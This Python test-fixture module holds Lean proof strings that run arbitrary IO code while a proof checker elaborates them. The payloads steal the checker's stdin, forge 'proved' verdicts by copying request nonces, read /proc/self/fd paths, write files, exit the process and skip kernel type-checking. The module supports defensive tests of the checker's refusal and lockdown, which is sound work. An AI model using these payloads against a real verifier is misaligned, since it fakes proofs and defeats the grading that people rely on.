"""Proof texts that run code inside the checker, for the attack tests (real Lean).

Lean evaluates a tactic's configuration term (`declare_config_elab`: compiled and run, unsafe
code included).  `run_io(act)` is a proof of `True` whose `simp (maxSteps := …)` term runs the IO
action `act` while Lean elaborates it: `ptrAddrUnsafe` keeps the action's result alive so the
compiler cannot drop it, and `unsafeCast ()` is the world token.  Against a test-only build of the
checker with the refusal of evaluated code switched off, each payload really runs (the tests show
it); the shipped checker refuses every one before elaborating it.
"""

from __future__ import annotations

from pathlib import Path

S_TRUE = "theorem t_true : True := by\n"
S_LT5 = "theorem t_lt5 (n : Nat) : n < 5 := by\n"  # false: a forged `proved` is the only way
S_ONE_TWO = "theorem t_one_two : 1 = 2 := by\n"


def run_io(act: str) -> str:
    """A proof (of `S_TRUE`) whose configuration term runs the `do`-block lines `act`."""
    body = "".join("      " + line + "\n" for line in act.strip("\n").split("\n"))
    return (
        "  simp (maxSteps := (ptrAddrUnsafe (((do\n"
        + body
        + "      pure ()) : IO Unit) (unsafeCast ()))).toNat % 1 + 5000)\n"
    )


def _nonce(var: str) -> str:
    # the driver writes `"nonce": "<32 hex>"}` last in each request line (bytes: `"}` + newline)
    return f"(String.Pos.Raw.extract {var} ⟨{var}.utf8ByteSize - 35⟩ ⟨{var}.utf8ByteSize - 3⟩)"


# A dedicated thread that reads the next requests of the batch from the checker's own standard
# input and answers each with a forged `proved` (the attack of issue "No item runs code").
_STEAL = (
    "  let l ← inp.getLine\n"
    f'  out.putStrLn ("{{\\"nonce\\": \\"" ++ {_nonce("l")} ++ '
    '"\\", \\"verdict\\": \\"proved\\", \\"reason\\": \\"thief\\"}")\n'
    "  out.flush\n"
)
THIEF = run_io(
    """let ready ← IO.Promise.new
let _ ← IO.asTask (prio := .dedicated) (do
  let inp ← IO.FS.Handle.mk "/dev/stdin" .read
  let out ← IO.FS.Handle.mk "/dev/stdout" .write
  ready.resolve ()
"""
    + _STEAL
    + """  pure ())
let _ ← IO.wait ready.result?"""
)

# A thief that also prints a line that is not JSON (the driver counts it and ignores it)
THIEF_NOISY = THIEF.replace(
    "let _ ← IO.asTask", 'IO.println "not a reply"\n      let _ ← IO.asTask', 1
)

# The same, from the item's own thread through the standard streams and the /proc/self/fd path.
STDIO = run_io(
    r"""let l ← try (← IO.getStdin).getLine catch e => pure ("error: " ++ toString e)
IO.FS.writeFile "/scratch/stolen_stdin" ("got:" ++ l)
try
  let out ← IO.getStdout
  out.putStrLn "{\"nonce\": \"0\", \"verdict\": \"proved\"}"
  out.flush
catch _ => pure ()"""
)
PROCFD = run_io(
    r"""IO.FS.writeFile "/scratch/reading" "about to read"
for p in ["/proc/self/fd/3", "/proc/self/fd/0", "/dev/tty", "/dev/stdin"] do
  if !(← System.FilePath.pathExists "/scratch/stolen_path") then
    try
      let l ← (← IO.FS.Handle.mk p .read).getLine
      IO.FS.writeFile "/scratch/stolen_path" ("got:" ++ l)
    catch _ => pure ()"""
)
WRITE = run_io('IO.FS.writeFile "/scratch/pwned" "written by an item"')
READ_BACK = run_io(
    r"""if (← System.FilePath.pathExists "/scratch/pwned") then
  IO.FS.writeFile "/scratch/read_back" (← IO.FS.readFile "/scratch/pwned")"""
)
EXIT = run_io("IO.Process.exit 0")
# an answer (a term for `abbrev toy_solution : Nat := sorry`) whose `by` block has a
# configuration term that runs `IO.Process.exit` while the answer elaborates
EXIT_ANSWER = (
    "by first | simp (maxSteps := (ptrAddrUnsafe ((IO.Process.exit 0 : IO Unit) "
    "(unsafeCast ()))).toNat % 1 + 5000) | exact 6"
)
GRIND_SKIP_KERNEL = "  grind => set_option debug.skipKernelTC true in finish\n"


def stolen(scratch: Path) -> dict[str, str]:
    """What the payloads left in a checker's scratch directory (`/scratch` inside Lean)."""
    names = ("pwned", "read_back", "stolen_stdin", "stolen_path", "reading")
    return {n: (scratch / n).read_text() for n in names if (scratch / n).exists()}


def checker_build(tmp_path: Path, refuse_evaluation: bool, lockdown: bool) -> Path:
    """A test-only copy of the checker program with defences switched off."""
    from prover.lean.checker import CHECKER_SOURCE

    src = CHECKER_SOURCE.read_text(encoding="utf-8")
    for flag, on in (("refuseEvaluation", refuse_evaluation), ("lockdownEnabled", lockdown)):
        line = f"def {flag} : Bool := true"
        assert src.count(line) == 1, flag
        if not on:
            src = src.replace(line, f"def {flag} : Bool := false")
    out = tmp_path / f"ProverChecker-refuse{int(refuse_evaluation)}-lock{int(lockdown)}.lean"
    out.write_text(src, encoding="utf-8")
    return out
